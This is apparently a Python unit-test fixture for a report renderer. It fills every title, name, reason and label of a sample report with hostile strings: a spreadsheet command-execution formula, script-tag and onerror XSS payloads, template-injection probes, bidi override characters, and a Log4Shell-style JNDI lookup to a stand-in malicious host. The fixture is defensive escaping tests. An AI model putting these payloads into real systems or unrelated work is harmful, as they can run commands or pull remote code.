"""Texts that try to be more than text in one of the forms."""

from __future__ import annotations

from dataclasses import replace

from monev.model import Ended, MonevNote, MonevReport
from tests.unit.monev_render import samples

TEXTS = (
    "=cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(1;2)",
    "-2+3",
    "<script>alert(1)</script> & <img src=x onerror=alert(1)>",
    "#set text(red) #panic[!] $x^2$ *tebal* _miring_ `kode` \\ ~ // komentar",
    "[klik](http://jahat.example) ![x](http://jahat.example/a.png) www.jahat.example",
    "{{ 7*7 }} {% raw %}",
    "a | b || c",
    "1. bukan daftar",
    "satu\ndua\r\n\n# tiga\t\x00\x07empat",
    "kiri\u202ekanan\u2066x",
    "\ud83d tanggung \uffff",
    "Kesehatan 🩺 untuk semua 👨‍👩‍👧",
    "حجاج و 検疫",
    "p" * 3000,
    "${jndi:ldap://jahat.example}",
    "",
)


def hostile_report() -> MonevReport:
    """The sample with each such text as title, reason, note, name and label."""
    report = samples.report(points=len(TEXTS), listed=len(TEXTS), rehearsal=True)
    one = TEXTS[4]
    points = tuple(
        replace(point, title=text) for point, text in zip(report.xmr.points, TEXTS, strict=True)
    )
    return replace(
        report,
        letterhead=replace(
            report.letterhead, office=TEXTS[5], address=one, head_name=one, sop_name=TEXTS[6]
        ),
        steps=tuple(replace(step, name=TEXTS[4 + step.no % 4]) for step in report.steps),
        rejections=tuple(
            replace(item, title=text, reason=text)
            for item, text in zip(report.rejections, TEXTS, strict=True)
        ),
        xmr=replace(report.xmr, points=points, signals=tuple(range(len(points)))),
        open_items=tuple(
            replace(item, title=text, owner=text, unit=text, step_name=one)
            for item, text in zip(report.open_items, TEXTS, strict=True)
        ),
        channels=tuple(replace(channel, label=TEXTS[5]) for channel in report.channels),
        ended=tuple(
            Ended("a1b2c3d4", text, "dibatalkan", 4, one, samples.AS_OF, text, text)
            for text in TEXTS
        ),
        notes=tuple(MonevNote("a1b2c3d4", text, None, text) for text in TEXTS),
        quality=TEXTS,
    )
